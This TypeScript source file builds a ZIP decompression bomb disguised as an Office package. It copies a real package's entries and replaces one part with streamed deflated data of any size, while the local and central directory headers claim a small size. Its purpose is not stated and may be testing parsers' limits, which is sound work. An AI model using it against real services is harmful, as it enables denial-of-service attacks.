// Writes a ZIP whose central directory lies: one entry is deflated from a generated stream of any
// size (never held in memory whole) while its directory and local header claim a small size.
// Every other entry is copied from a real package, so the archive is a plausible Office file.
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import zlib from 'node:zlib';
import { unzipSync } from 'fflate';

interface Entry {
  name: Buffer;
  data: Buffer;
  crc: number;
  claimedSize: number;
}

/** Deflated bytes and CRC-32 of the concatenated pieces. */
async function deflateStream(pieces: Iterable<Buffer>): Promise<{ data: Buffer; crc: number }> {
  const parts: Buffer[] = [];
  let crc = 0;
  const deflate = zlib.createDeflateRaw({ level: 1 });
  deflate.on('data', (chunk: Buffer) => parts.push(chunk));
  // pipeline settles when the deflater's input side finishes, before its last output chunks.
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  const counted = (function* () {
    for (const piece of pieces) {
      crc = zlib.crc32(piece, crc);
      yield piece;
    }
  })();
  await pipeline(Readable.from(counted), deflate);
  await ended;
  return { data: Buffer.concat(parts), crc };
}

/** `real`'s entries, with `bombPart` replaced by `pieces` deflated, claiming `claimedSize` bytes. */
export async function lyingPackage(real: Uint8Array, bombPart: string, pieces: Iterable<Buffer>, claimedSize: number): Promise<Buffer> {
  const entries: Entry[] = [];
  for (const [name, content] of Object.entries(unzipSync(real))) {
    const bytes = Buffer.from(content);
    if (name === bombPart) {
      entries.push({ name: Buffer.from(name), ...(await deflateStream(pieces)), claimedSize });
    } else {
      entries.push({ name: Buffer.from(name), data: zlib.deflateRawSync(bytes), crc: zlib.crc32(bytes), claimedSize: bytes.length });
    }
  }
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(e.crc, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.claimedSize, 22);
    local.writeUInt16LE(e.name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(e.crc, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.claimedSize, 24);
    central.writeUInt16LE(e.name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, e.name, e.data);
    centrals.push(central, e.name);
    offset += 30 + e.name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}
